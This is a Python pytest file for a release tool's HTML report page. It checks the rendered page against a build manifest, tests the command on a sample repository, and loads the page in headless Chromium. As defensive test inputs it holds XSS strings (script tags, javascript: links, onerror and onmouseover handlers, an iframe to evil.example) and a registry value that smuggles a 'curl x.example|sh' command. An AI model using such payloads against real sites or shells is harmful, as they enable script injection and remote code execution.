"""The rc page (``release report TAG --out DIR``): the renderer held to the manifest it was
made from, hostile values kept inert, the command on a real repository with a real tag and
manifest note, and the page loaded in a real browser (headless Chromium)."""

from __future__ import annotations

import copy
import dataclasses
import hashlib
import json
import os
import shutil
import signal
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from release.commands.common import as_json
from release.core.accelerator import Accelerator
from release.core.generated import Spelling, Standing, WrittenBy, stamped, standing
from release.core.html_text import notes_html
from release.core.manifest import ManifestError, check
from release.core.manifest_records import Manifest
from release.core.matrix import ImageMatrix, Variant
from release.core.rc_page import ENGINES_OWN, Reproduced, ReproduceState, render
from release.core.rc_page_input import page_of, reproduce_of
from release.core.terminal_text import escaped
from release.core.verdict import FieldVerdict, State
from release.flows.context import ReleaseContext
from release.flows.rc_page import reproduce_record_path
from release.sample import SampleEngine
from tests.conftest import repo_state, run_cli
from tests.docker_support import REQUIRE_ENV
from tests.manifest_support import sha
from tests.rc_page_support import COMMIT, FIGURES, IMAGE, REGISTRY, TAG, manifest


def matrix() -> ImageMatrix:
    def row(vid: str, cuda: str, platform: str | None = None, group: str = "") -> Variant:
        slug = platform.rpartition("/")[2] if platform else ""
        return Variant(vid, Accelerator("cuda", cuda), f"nvidia/cuda:{cuda}", platform=platform,
                       group=group, slug=slug)  # fmt: skip

    variants = (
        row("cu128", "12.8.1"),
        row("cu129-amd64", "12.9.1", "linux/amd64", "cu129"),
        row("cu129-arm64", "12.9.1", "linux/arm64", "cu129"),
        row("cu130", "13.0.1"),
    )
    return ImageMatrix(IMAGE, "docker/Dockerfile", ".", "cu130", variants, snapshot=None)


NOTES = (
    "Changes v0.30.0..v0.31.0rc1:\n\n### Bug Fixes\n\n"
    "- Handle an empty request list ([#106](https://github.com/example/tinyengine/pull/106))"
    " by Alice Chen\n- Keep `--port` as given\n\n### Contributors\n\nAlice Chen\n"
)


# -- a small DOM, from the stdlib's parser ---------------------------------------------
VOID = {"meta", "br", "img", "hr", "link", "input", "source", "wbr"}


@dataclass
class Element:
    tag: str
    attrs: dict[str, str]
    parent: Element | None = None
    children: list[Element] = field(default_factory=list)
    text: str = ""

    def ancestors(self) -> Iterator[Element]:
        node = self.parent
        while node is not None:
            yield node
            node = node.parent

    def find(self, tag: str = "", **attrs: str) -> list[Element]:
        found = [e for e in self.walk() if (not tag or e.tag == tag) and _has(e, attrs)]
        return found

    def walk(self) -> Iterator[Element]:
        for child in self.children:
            yield child
            yield from child.walk()

    def one(self, tag: str = "", **attrs: str) -> Element:
        found = self.find(tag, **attrs)
        assert len(found) == 1, (tag, attrs, len(found))
        return found[0]


def _has(element: Element, attrs: dict[str, str]) -> bool:
    for key, value in attrs.items():
        name = key.removesuffix("_").replace("_", "-")
        if name == "class":
            if value not in element.attrs.get("class", "").split():
                return False
        elif element.attrs.get(name) != value:
            return False
    return True


class _Parser(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.root = Element("#document", {})
        self.open = self.root

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        element = Element(tag, {k: v or "" for k, v in attrs}, self.open)
        self.open.children.append(element)
        if tag not in VOID:
            self.open = element

    def handle_endtag(self, tag: str) -> None:
        node: Element | None = self.open
        while node is not None and node.tag != tag:
            node = node.parent
        assert node is not None and node.parent is not None, f"</{tag}> closes nothing"
        self.open = node.parent

    def handle_data(self, data: str) -> None:
        for node in [self.open, *self.open.ancestors()]:
            node.text += data


def dom(page: str) -> Element:
    parser = _Parser()
    parser.feed(page)
    parser.close()
    return parser.root


def check_against_manifest(document: Element, recorded: dict[str, Any]) -> None:
    """Every row, platform, status, digest and pull line of the page is the manifest's."""
    variants = recorded["variants"]
    table = document.one(id="matrix")
    rows = {r.attrs["data-row"]: r for r in table.find("tr") if "data-row" in r.attrs}
    assert sorted(rows) == sorted(variants) and len(table.find("tr")) == len(variants) + 1
    for row_id, entry in variants.items():
        row = rows[row_id]
        publish = entry.get("publish")
        platform = (publish or {}).get("platform", ENGINES_OWN)
        assert row.attrs["data-platform"] == platform
        assert row.one("td", class_="build").attrs["data-image-id"] == entry["build"]["image_id"]
        smoked = row.one("td", class_="smoke")
        assert smoked.attrs["data-status"] == ("passed" if entry["smoke"]["passed"] else "failed")
        assert smoked.attrs["data-total"] == str(len(entry["smoke"]["checks"]))
        assert row.one("td", class_="snapshot").attrs["data-status"] == entry["snapshot"]["status"]
        digests = document.one(id="digests").find("div", data_row=row_id)
        assert len(digests) == 1 and digests[0].attrs["data-platform"] == platform
        if publish is None:
            cell = digests[0]
            assert "not-published" in cell.attrs["class"].split()
            assert cell.attrs["data-image-id"] == entry["build"]["image_id"]
            assert "not published" in cell.text and entry["build"]["image_id"] in cell.text
    pulls = {
        (c.attrs["data-kind"], c.attrs["data-digest"]): c.text
        for c in document.find("code", class_="pull")
    }
    wanted = {}
    for entry in variants.values():
        if "publish" in entry:
            p = entry["publish"]
            for kind, digest in (("platform", p["digest"]), ("index", p["index"]["digest"])):
                wanted[(kind, digest)] = f"docker pull {p['registry']}/{recorded['image']}@{digest}"
    assert pulls == wanted


def reproduced(document: Element) -> dict[str, str]:
    return {
        row.attrs["data-row"]: row.one("td", class_="reproduce").attrs["data-status"]
        for row in document.one(id="matrix").find("tr")
        if "data-row" in row.attrs
    }


# -- the renderer ------------------------------------------------------------------------
def test_every_row_platform_digest_and_pull_line_is_on_the_page() -> None:
    recorded = manifest()
    page = render(page_of(Manifest.of(recorded), matrix=matrix(), notes=NOTES))
    document = dom(page)
    check_against_manifest(document, recorded)
    assert [r.attrs["data-row"] for r in document.one(id="matrix").find("tr")[1:]] == list(
        matrix().ids
    )
    header = document.one("header", id="header")
    assert (header.attrs["data-tag"], header.attrs["data-commit"]) == (TAG, COMMIT)
    assert header.attrs["data-image"] == IMAGE and header.attrs["data-promoted-from"] == ""
    cu129 = document.one("div", class_="variant", data_group="cu129")
    assert (
        len(cu129.find("code", class_="pull", data_kind="index")) == 1
    )  # one index, two platforms
    assert len(cu129.find("code", class_="pull", data_kind="platform")) == 2
    assert (
        document.one("td", class_="build", data_standin="true").parent.attrs["data-row"] == "cu128"
    )
    timings = document.one(id="timings")
    assert {
        c.attrs["data-figure"]: float(c.attrs["data-seconds"])
        for c in timings.find("td", class_="figure")
    } == FIGURES
    assert "0.800" in timings.text and "cu130" in timings.text


def test_a_failed_check_shows_with_its_counts_and_reason() -> None:
    document = dom(render(page_of(Manifest.of(manifest()), matrix=matrix())))
    cu130 = document.one(id="matrix").one("tr", data_row="cu130")
    smoked = cu130.one("td", class_="smoke")
    assert smoked.attrs["data-passed"] == "0" and "FAILED" in smoked.text
    assert "0/2 passed · 1 failed · 1 not run" in smoked.text
    assert smoked.one("li", data_check="gpu").attrs["data-status"] == "not run"
    assert "no GPU here" in smoked.text


def test_a_row_without_a_publish_part_says_not_published() -> None:
    recorded = manifest()
    for entry in recorded["variants"].values():
        entry.pop("publish", None)
    document = dom(render(page_of(Manifest.of(recorded), matrix=matrix())))
    assert not document.find("code", class_="pull")
    cells = document.find("div", class_="not-published")
    assert [c.attrs["data-image-id"] for c in cells] == [sha(n) for n in "1234"]
    assert all("not published" in c.text for c in cells)
    assert len(document.find("p", class_="not-published", data_kind="index")) == 3  # per variant


def test_a_row_the_matrix_lacks_is_its_own_variant_on_its_publish_platform() -> None:
    document = dom(render(page_of(Manifest.of(manifest()))))  # no matrix at all
    arm = document.one(id="matrix").one("tr", data_row="cu129-arm64")
    assert (arm.attrs["data-group"], arm.attrs["data-platform"]) == ("cu129-arm64", "linux/arm64")
    assert (
        document.one(id="matrix").one("tr", data_row="cu128").attrs["data-platform"] == ENGINES_OWN
    )


def test_reproduce_missing_says_not_run() -> None:
    document = dom(render(page_of(Manifest.of(manifest()), matrix=matrix())))
    cells = document.find("td", class_="reproduce")
    assert len(cells) == 4 and {c.attrs["data-status"] for c in cells} == {"not run"}
    summary = document.one("p", data_reproduced="false")
    assert "not run" in summary.text and f"release reproduce {TAG}" in summary.text


def test_reproduce_verdicts_per_row() -> None:
    record = {
        "tag": TAG,
        "drifted": ["cu130"],
        "verdicts": {
            "cu128": [
                {"name": "base", "state": "match"},
                {"name": "image id", "state": "differs (expected)"},
            ],
            "cu129-amd64": [{"name": "smoke", "state": "not compared"}],
            "cu130": [
                {"name": "base", "state": "drift"},
                {"name": "content digest", "state": "drift"},
            ],
        },
        "notices": ["used the local tag: no remote 'origin'"],
    }
    found = reproduce_of(json.loads(json.dumps(record)), TAG)
    document = dom(render(page_of(Manifest.of(manifest()), matrix=matrix(), reproduce=found)))
    assert reproduced(document) == {
        "cu128": "match",
        "cu129-amd64": "not compared",
        "cu129-arm64": "not run",
        "cu130": "drift",
    }
    assert (
        "base, content digest"
        in document.one(id="matrix").one("tr", data_row="cu130").one("td", class_="reproduce").text
    )
    assert document.one("p", data_reproduced="true")
    assert "used the local tag" in document.one("ul", class_="notices").text


def test_a_record_as_reproduce_writes_it_is_read() -> None:
    """The fields as ``release reproduce --json`` writes them, whichever way it spells a state."""
    fields = {
        "cu128": [FieldVerdict("base", State.MATCH), FieldVerdict("image id", State.EXPECTED)],
        "cu130": [FieldVerdict("input digest", State.DRIFT, ("recorded a, rebuilt b",))],
    }
    document = {
        "tag": TAG,
        "drifted": ["cu130"],
        "verdicts": {
            row: [as_json(dataclasses.asdict(f)) for f in found] for row, found in fields.items()
        },
        "notices": [],
    }
    found = reproduce_of(json.loads(json.dumps(document)), TAG)
    assert found.rows["cu128"].state is ReproduceState.MATCH
    assert found.rows["cu130"] == Reproduced(ReproduceState.DRIFT, ("input digest",))


@pytest.mark.parametrize(
    ("record", "said"),
    [
        ([], "not a JSON object"),
        ({"tag": "v0.30.0", "verdicts": {}}, "a record of 'v0.30.0'"),
        ({"tag": TAG}, "no verdicts"),
        ({"tag": TAG, "verdicts": {"cu128": "match"}}, "not a list of fields"),
        (
            {"tag": TAG, "verdicts": {"cu128": [{"name": 1, "state": "match"}]}},
            "not a list of fields",
        ),
        ({"tag": TAG, "verdicts": {}, "drifted": "cu128"}, "drifted is not a list"),
    ],
)
def test_a_reproduce_record_of_another_shape_or_tag_is_refused(record: object, said: str) -> None:
    with pytest.raises(ValueError, match=said):
        reproduce_of(record, TAG)


HOSTILE = "<script>document.title='pwned'</script>\"' onmouseover=alert(1) \x1b[31m\u202e\x00"


def hostile_manifest() -> dict[str, Any]:
    recorded = manifest()
    recorded["image"] = f"evil/{HOSTILE}"
    recorded["version"] = HOSTILE
    recorded["promoted_from"] = {"tag": HOSTILE, "commit": "d" * 40, "image_ids": {}}
    cu130 = recorded["variants"]["cu130"]
    cu130["build"]["base"]["ref"] = HOSTILE
    cu130["build"]["cuda"] = HOSTILE
    cu130["smoke"]["checks"][0].update(name=HOSTILE, reason=HOSTILE)
    cu130["snapshot"]["reason"] = HOSTILE
    cu130["snapshot"]["record"]["snapshot_runtime"]["figures"][HOSTILE] = 1.5
    cu130["snapshot"]["record"]["snapshot_runtime"]["figures"]["nan"] = float("nan")
    cu130["publish"]["registry"] = f'{HOSTILE}" href="javascript:alert(1)'
    cu130["publish"]["index"]["tags"] = [HOSTILE]
    return check(recorded, "the hostile manifest")


HOSTILE_NOTES = (
    f'# {HOSTILE}\n\n- [click](javascript:alert(1)) and [x](https://ok.example/"onclick=alert(1))\n'
    f"- <img src=x onerror=alert(1)> `{HOSTILE}`\n\n<iframe src=https://evil.example></iframe>\n"
)


def assert_inert(page: str, document: Element) -> None:
    assert "<script" not in page and "<img" not in page and "<iframe" not in page
    assert not [e.tag for e in document.walk() if e.tag in ("script", "img", "iframe", "object")]
    handlers = [(e.tag, k) for e in document.walk() for k in e.attrs if k.startswith("on")]
    assert handlers == []
    assert all(a.attrs["href"].startswith("https://") for a in document.find("a"))
    assert not [c for c in page if (ord(c) < 32 and c != "\n") or 0x7F <= ord(c) <= 0x9F]
    assert "\u202e" not in page


def test_hostile_values_are_escaped_and_inject_no_markup() -> None:
    recorded = hostile_manifest()
    page = render(page_of(Manifest.of(recorded), matrix=matrix(), notes=HOSTILE_NOTES))
    document = dom(page)
    assert_inert(page, document)
    shown = escaped(HOSTILE)  # what a reader sees: the controls as escapes, the rest as text
    cu130 = document.one(id="matrix").one("tr", data_row="cu130")
    assert shown in cu130.one("td", class_="build").text
    assert cu130.one("td", class_="smoke").one("li", data_check=shown).text.count(shown) == 2
    assert shown in cu130.one("td", class_="snapshot").text
    assert document.one("header").attrs["data-promoted-from"] == shown
    assert document.one("title").text == f"evil/{shown} {TAG}"
    assert not document.find("code", class_="pull")  # the image name is no reference: no line
    unpullable = document.one("p", class_="unpullable", data_kind="platform", data_digest=sha("c"))
    assert escaped(recorded["variants"]["cu130"]["publish"]["registry"]) in unpullable.text
    assert document.one(id="timings").find("th", data_figure=shown)
    assert not document.one(id="timings").find("th", data_figure="nan")  # not a number: left out
    notes = document.one("div", class_="notes")
    assert [a.attrs["href"] for a in notes.find("a")] == []  # neither link is made
    assert "javascript:alert(1)" in notes.text and "<img src=x" in notes.text
    assert shown in notes.one("h3").text


def test_a_pull_line_is_only_made_of_an_image_reference() -> None:
    """Text a shell reads as more commands never reaches a line made to be copied."""
    recorded = manifest()
    recorded["variants"]["cu130"]["publish"]["registry"] = "x.example/r; curl x.example|sh #"
    recorded["variants"]["cu129-arm64"]["publish"]["registry"] = "x.example/r\n"
    document = dom(render(page_of(Manifest.of(check(recorded, "test")), matrix=matrix())))
    pulls = [c.attrs["data-digest"] for c in document.find("code", class_="pull")]
    assert pulls == [sha("9"), sha("a")]  # cu129's index (amd64's own registry) and amd64
    refused = {
        (p.attrs["data-kind"], p.attrs["data-digest"])
        for p in document.find("p", class_="unpullable")
    }
    assert refused == {("index", sha("8")), ("platform", sha("c")), ("platform", sha("b"))}
    assert "curl" not in "".join(c.text for c in document.find("code", class_="pull"))


def test_notes_keep_headings_items_code_and_http_links_only() -> None:
    document = dom(
        notes_html(NOTES + "\n[ok](http://example.com/a?b=1&c=2) [bad](data:text/html,x)\n")
    )
    assert [h.text for h in document.find("h3")] == ["Bug Fixes", "Contributors"]
    items = document.find("li")
    assert len(items) == 2 and items[1].one("code").text == "--port"
    hrefs = [a.attrs["href"] for a in document.find("a")]
    assert hrefs == [
        "https://github.com/example/tinyengine/pull/106",
        "http://example.com/a?b=1&c=2",
    ]
    assert "[bad](data:text/html,x)" in document.text


def test_bytes_that_were_not_utf8_are_shown_not_written_raw() -> None:
    page = render(page_of(Manifest.of(manifest()), notes="caf\udce9 notes\n"))
    assert "caf\\udce9 notes" in page
    page.encode("utf-8")  # writable


def test_a_lightweight_tag_has_no_notes_and_a_final_says_where_it_came_from() -> None:
    recorded = manifest(tag="v0.31.0", version="0.31.0")
    recorded["promoted_from"] = {"tag": TAG, "commit": COMMIT, "image_ids": {}}
    document = dom(render(page_of(Manifest.of(recorded), matrix=matrix())))
    assert "lightweight tag" in document.one(id="notes").text
    header = document.one("header")
    assert header.attrs["data-promoted-from"] == TAG and "final release" in header.text
    assert header.one("span", class_="promoted").text == TAG


# -- the command, on a real repository (rc1_tagged: tests/rc_page_support.py) ------------
def test_report_writes_the_page_of_a_tag(rc1_tagged: SampleEngine, tmp_path: Path) -> None:
    out = tmp_path / "pages"  # made: its parent exists
    result = run_cli(rc1_tagged.root, "report", "v0.1.0rc1", "--out", str(out))
    assert result.code == 0, result.output
    path = out / "v0.1.0rc1.html"
    assert result.stdout.strip() == f"wrote {path} (4 image(s) of {IMAGE}, reproduce not run here)"
    document = dom(path.read_text(encoding="utf-8"))
    note = json.loads(rc1_tagged.repo.out("notes", "--ref=release/v0.1.0rc1", "show", "v0.1.0rc1"))
    check_against_manifest(document, note)
    notes = document.one("div", class_="notes")
    assert "Bug Fixes" in [h.text for h in notes.find("h3")]
    assert "https://github.com/example/tinyengine/pull/106" in [
        a.attrs["href"] for a in notes.find("a")
    ]
    assert not notes.text.startswith("v0.1.0rc1")  # the subject that repeats the tag is left out
    # the rows in the tag's matrix's order, cu129's two platforms under the one variant
    rows = {
        r.attrs["data-row"]: r.attrs["data-group"]
        for r in document.one(id="matrix").find("tr")
        if "data-row" in r.attrs
    }
    assert rows == {
        "cu128": "cu128", "cu129-amd64": "cu129", "cu129-arm64": "cu129", "cu130": "cu130"
    }  # fmt: skip
    configured = ReleaseContext(rc1_tagged.root).config.matrix
    assert configured is not None and list(rows) == list(configured.ids)
    again = run_cli(rc1_tagged.root, "report", "v0.1.0rc1", "-o", str(out), "--json")
    assert again.code == 0, again.output
    said = json.loads(again.stdout)
    assert (said["schema"], said["path"], said["tag"]) == (
        "release/report/v1",
        str(path),
        "v0.1.0rc1",
    )
    assert said["reproduced"] is False and len(said["rows"]) == 4


def test_report_shows_this_machines_reproduce_record(
    rc1_tagged: SampleEngine, tmp_path: Path
) -> None:
    record = reproduce_record_path(rc1_tagged.repo.git_dir, "v0.1.0rc1")
    record.parent.mkdir(parents=True)
    record.write_text(json.dumps({
        "tag": "v0.1.0rc1", "drifted": ["cu130"], "notices": [],
        "verdicts": {"cu128": [{"name": "base", "state": "match", "differences": []}],
                     "cu130": [{"name": "input digest", "state": "drift", "differences": ["x"]}]},
    }), encoding="utf-8")  # fmt: skip
    result = run_cli(rc1_tagged.root, "report", "v0.1.0rc1", "--out", str(tmp_path))
    assert result.code == 0, result.output
    document = dom((tmp_path / "v0.1.0rc1.html").read_text(encoding="utf-8"))
    states = reproduced(document)
    assert (
        states["cu128"] == "match"
        and states["cu130"] == "drift"
        and states["cu129-arm64"] == "not run"
    )
    record.write_text("{not json", encoding="utf-8")
    damaged = run_cli(rc1_tagged.root, "report", "v0.1.0rc1", "--out", str(tmp_path))
    assert damaged.code == 0, damaged.output
    assert "note: the reproduce record" in damaged.stdout and "shown as not run" in damaged.stdout
    document = dom((tmp_path / "v0.1.0rc1.html").read_text(encoding="utf-8"))
    assert {c.attrs["data-status"] for c in document.find("td", class_="reproduce")} == {"not run"}


def test_report_refuses_before_writing_anything(rc1_tagged: SampleEngine, tmp_path: Path) -> None:
    engine = rc1_tagged
    tmp_path = tmp_path / "out"
    tmp_path.mkdir()
    afile = tmp_path / "a-file"
    afile.write_text("x", encoding="utf-8")
    cases = [
        (("nope", "--out", str(tmp_path)), 2, "no tag nope here"),
        (("v*", "--out", str(tmp_path)), 2, "is not a tag name"),
        (("v0.1.0rc1", "--out", str(tmp_path / "no" / "such")), 2, "there is no directory"),
        (("v0.1.0rc1", "--out", str(afile)), 2, "is not a directory"),
    ]
    for args, code, said in cases:
        result = run_cli(engine.root, "report", *args)
        assert result.code == code and said in result.stderr, (args, result.output)
    engine.repo.run("tag", "-a", "v0.1.0rc2", "-m", "no manifest")
    missing = run_cli(engine.root, "report", "v0.1.0rc2", "--out", str(tmp_path))
    assert missing.code == 7 and "has no release manifest here" in missing.stderr, missing.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a-file"]


def test_report_replaces_only_a_page_it_wrote_that_nobody_changed(
    rc1_tagged: SampleEngine, tmp_path: Path
) -> None:
    """A page there already that release did not write (one made by hand for the GitHub
    release), or its own changed since, is refused, naming it and --force; its own,
    unchanged, is written again, byte for byte the same."""
    out = tmp_path / "pages"
    out.mkdir()
    page = out / "v0.1.0rc1.html"
    theirs = b"<!DOCTYPE html>\n<title>v0.1.0rc1</title>\n<p>Our own notes for rc1.</p>\n"
    page.write_bytes(theirs)
    before = repo_state(rc1_tagged.root)
    refused = run_cli(rc1_tagged.root, "report", "v0.1.0rc1", "--out", str(out))
    assert refused.code == 3, refused.output
    assert f"{page} (not written by release)" in refused.stderr and "--force" in refused.stderr
    assert page.read_bytes() == theirs and repo_state(rc1_tagged.root) == before
    forced = run_cli(rc1_tagged.root, "report", "v0.1.0rc1", "--out", str(out), "--force")
    assert forced.code == 0 and f"replaced {page} with --force" in forced.stdout, forced.output
    written = page.read_text(encoding="utf-8")
    assert written.startswith("<!DOCTYPE html>\n<!-- Written by release ")
    assert "release report v0.1.0rc1\n" in written
    assert standing(written, Spelling.HTML) is Standing.OURS
    check_against_manifest(dom(written), json.loads(
        rc1_tagged.repo.out("notes", "--ref=release/v0.1.0rc1", "show", "v0.1.0rc1")
    ))  # fmt: skip
    again = run_cli(rc1_tagged.root, "report", "v0.1.0rc1", "--out", str(out))
    assert again.code == 0 and "replaced" not in again.stdout, again.output
    assert page.read_text(encoding="utf-8") == written
    page.write_text(written.replace("</h1>", " (withdrawn)</h1>", 1), encoding="utf-8")
    edited = page.read_bytes()
    assert edited != written.encode()
    refused = run_cli(rc1_tagged.root, "report", "v0.1.0rc1", "--out", str(out))
    assert refused.code == 3 and "(changed since release wrote it)" in refused.stderr
    assert page.read_bytes() == edited and repo_state(rc1_tagged.root) == before


# -- a real browser -------------------------------------------------------------------
def _chromium() -> str:
    found = shutil.which("chromium") or shutil.which("chromium-browser")
    if found is None:
        reason = "no chromium on PATH (Debian: apt-get install chromium)"
        if os.environ.get(REQUIRE_ENV, "") not in ("", "0"):
            pytest.fail(
                f"{reason} [{REQUIRE_ENV}=1: the browser test must run here]", pytrace=False
            )
        pytest.skip(reason)
    return found


def _headless(chromium: str, profile: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """Chromium headless, bounded: its whole process group is killed at the deadline."""
    argv = [chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
            "--no-first-run", "--disable-background-networking", "--disable-component-update",
            "--disable-sync", f"--user-data-dir={profile}", *args]  # fmt: skip
    child = subprocess.Popen(
        argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True
    )
    try:
        out, err = child.communicate(timeout=90)
    except subprocess.TimeoutExpired:
        os.killpg(child.pid, signal.SIGKILL)
        child.communicate()
        pytest.fail(f"chromium did not finish in 90 s: {' '.join(args)}")
    return subprocess.CompletedProcess(argv, child.returncode, out, err)


@pytest.mark.slow
def test_the_page_in_a_real_browser(tmp_path: Path) -> None:
    chromium = _chromium()
    recorded = manifest()
    hostile = copy.deepcopy(recorded)
    hostile["variants"]["cu128"]["snapshot"]["reason"] = HOSTILE
    page = tmp_path / f"{TAG}.html"
    body = render(page_of(Manifest.of(hostile), matrix=matrix(), notes=NOTES + HOSTILE_NOTES))
    by = WrittenBy("0.1.0", ("release", "report", TAG))  # the page as release report writes it
    page.write_text(stamped(body, Spelling.HTML, by), encoding="utf-8")
    dumped = _headless(chromium, tmp_path / "profile", "--dump-dom", page.as_uri())
    assert dumped.returncode == 0 and "</html>" in dumped.stdout, dumped.stderr[-2000:]
    document = dom(dumped.stdout)
    check_against_manifest(document, recorded)
    assert document.one("title").text == f"{IMAGE} {TAG}"  # no script ran to change it
    assert_inert(dumped.stdout, document)
    shot = tmp_path / "page.png"
    taken = _headless(chromium, tmp_path / "profile", f"--screenshot={shot}",
                      "--window-size=1280,1600", "--hide-scrollbars", page.as_uri())  # fmt: skip
    assert taken.returncode == 0, taken.stderr[-2000:]
    data = shot.read_bytes()
    assert data.startswith(b"\x89PNG\r\n\x1a\n") and len(data) > 10_000
    assert (int.from_bytes(data[16:20], "big"), int.from_bytes(data[20:24], "big")) == (1280, 1600)
    keep = os.environ.get("RELEASE_RC_PAGE_SCREENSHOT")
    if keep:  # to look at it: RELEASE_RC_PAGE_SCREENSHOT=/tmp/rc-page.png
        shutil.copyfile(shot, keep)


def test_the_accelerator_column_shows_each_rows_accelerator_old_records_as_cuda() -> None:
    recorded = manifest()
    rocm = recorded["variants"]["cu130"]["build"]
    del rocm["cuda"]
    rocm["accelerator"] = {"kind": "rocm", "version": "6.4.1"}
    page = render(
        page_of(Manifest.of(check(recorded, "a manifest with a ROCm row")), matrix=matrix())
    )
    document = dom(page)
    heads = [th.text.strip() for th in document.find("th", scope="col")]
    assert heads[:3] == ["variant", "platform", "accelerator"]
    cells = {td.text.strip() for td in document.find("td", **{"class": "accelerator"})}
    assert cells == {"CUDA 12.8.1", "CUDA 12.9.1", "ROCm 6.4.1"}  # cu128's record has cuda alone


def test_each_published_image_and_index_shows_its_signer_or_unsigned() -> None:
    recorded = manifest()
    fpr = "0123456789ABCDEF0123456789ABCDEF01234567"
    for row in ("cu129-amd64", "cu129-arm64"):
        recorded["variants"][row]["publish"]["signed_by"] = fpr
        recorded["variants"][row]["publish"]["index"]["signed_by"] = fpr
    document = dom(
        render(page_of(Manifest.of(check(recorded, "signed")), matrix=matrix(), notes=NOTES))
    )
    check_against_manifest(document, recorded)
    digests = document.one(id="digests")
    signers = {
        (div.attrs.get("data-row") or div.attrs["data-digest"]): div.one(
            "span", class_="signer"
        ).attrs["data-signed-by"]
        for div in digests.find("div")
        if {"published", "index"} & set(div.attrs.get("class", "").split())
    }
    assert signers == {
        "cu129-amd64": fpr,
        "cu129-arm64": fpr,
        "cu130": "",
        sha("9"): fpr,
        sha("8"): "",
    }
    assert f"signed by {fpr}" in " ".join(digests.text.split())
    # the manifest records a full fingerprint or nothing
    for bad in ("0123456789abcdef0123456789abcdef01234567", "maintainer", "ABCD" * 5):
        recorded["variants"]["cu130"]["publish"]["signed_by"] = bad
        with pytest.raises(ManifestError, match="signed_by"):
            check(recorded, "test")


def digest_of(seed: str) -> str:
    return "sha256:" + hashlib.sha256(seed.encode()).hexdigest()


def attest_record(row: str, packages: int | None, signed_by: str | None) -> dict[str, Any]:
    sbom: dict[str, Any] = {
        "tag": f"{REGISTRY}/{IMAGE}:sha256-{row}.sbom",
        "digest": digest_of(f"sbom-{row}"),
        "media_type": "application/spdx+json",
        "packages": packages,
        "tool": "syft 1.18.1",
    }
    provenance: dict[str, Any] = {
        "tag": f"{REGISTRY}/{IMAGE}:sha256-{row}.att",
        "digest": digest_of(f"att-{row}"),
        "predicate_type": "https://slsa.dev/provenance/v1",
        "signed": signed_by is not None,
    }
    if signed_by:
        provenance["signed_by"] = signed_by
    return {"image_id": sha("1"), "subject": sha("2"), "sbom": sbom, "provenance": provenance}


def test_each_published_image_shows_its_sbom_and_provenance_or_none() -> None:
    """From the manifest's attest parts: the SBOM's digest and package count, the
    provenance's digest and signer; a row with none attached says none for each."""
    recorded = manifest()
    fpr = "0123456789ABCDEF0123456789ABCDEF01234567"
    recorded["variants"]["cu129-amd64"]["publish"]["signed_by"] = fpr
    recorded["variants"]["cu129-amd64"]["attest"] = attest_record("amd64", 142, fpr)
    recorded["variants"]["cu129-arm64"]["attest"] = attest_record("arm64", 97, None)
    document = dom(
        render(page_of(Manifest.of(check(recorded, "attested")), matrix=matrix(), notes=NOTES))
    )
    check_against_manifest(document, recorded)
    shown = {}
    for div in document.one(id="digests").find("div"):
        if "published" not in div.attrs.get("class", "").split():
            continue
        sbom, provenance = div.one("li", class_="sbom"), div.one("li", class_="provenance")
        shown[div.attrs["data-row"]] = (
            div.one("span", class_="signer").attrs["data-signed-by"],
            sbom.attrs["data-digest"],
            sbom.attrs.get("data-packages"),
            provenance.attrs["data-digest"],
            provenance.attrs["data-signed-by"],
            " ".join(div.text.split()),
        )
    amd64, arm64, cu130 = shown["cu129-amd64"], shown["cu129-arm64"], shown["cu130"]
    assert amd64[:5] == (fpr, digest_of("sbom-amd64"), "142", digest_of("att-amd64"), fpr)
    assert f"SBOM {digest_of('sbom-amd64')} (142 packages)" in amd64[5]
    assert f"provenance {digest_of('att-amd64')} signed by {fpr}" in amd64[5]
    assert arm64[:5] == ("", digest_of("sbom-arm64"), "97", digest_of("att-arm64"), "")
    assert f"provenance {digest_of('att-arm64')} unsigned" in arm64[5]
    assert cu130[:5] == ("", "", None, "", "")
    assert "SBOM: none" in cu130[5] and "provenance: none" in cu130[5]
    # a signer the manifest records is a full fingerprint or nothing
    recorded["variants"]["cu130"]["attest"] = attest_record("cu130", 1, "maintainer")
    with pytest.raises(ManifestError, match="signed_by"):
        check(recorded, "test")


def test_the_evidence_values_reach_the_page_escaped() -> None:
    """A count that is not a number is refused by the schema; a digest is shown only as
    text: the manifest cannot write markup into the evidence list."""
    from release.core.rc_page_evidence import Attested, evidence

    said = evidence(Attested('<b>"x"</b>', 3, "\x1b[2J", None))
    assert "<b>" not in said and "&lt;b&gt;&quot;x&quot;&lt;/b&gt;" in said
    assert "\x1b" not in said and "\\x1b[2J" in said
    recorded = manifest()
    recorded["variants"]["cu130"]["attest"] = attest_record("cu130", None, None)
    recorded["variants"]["cu130"]["attest"]["sbom"]["packages"] = "many"
    with pytest.raises(ManifestError):
        check(recorded, "test")
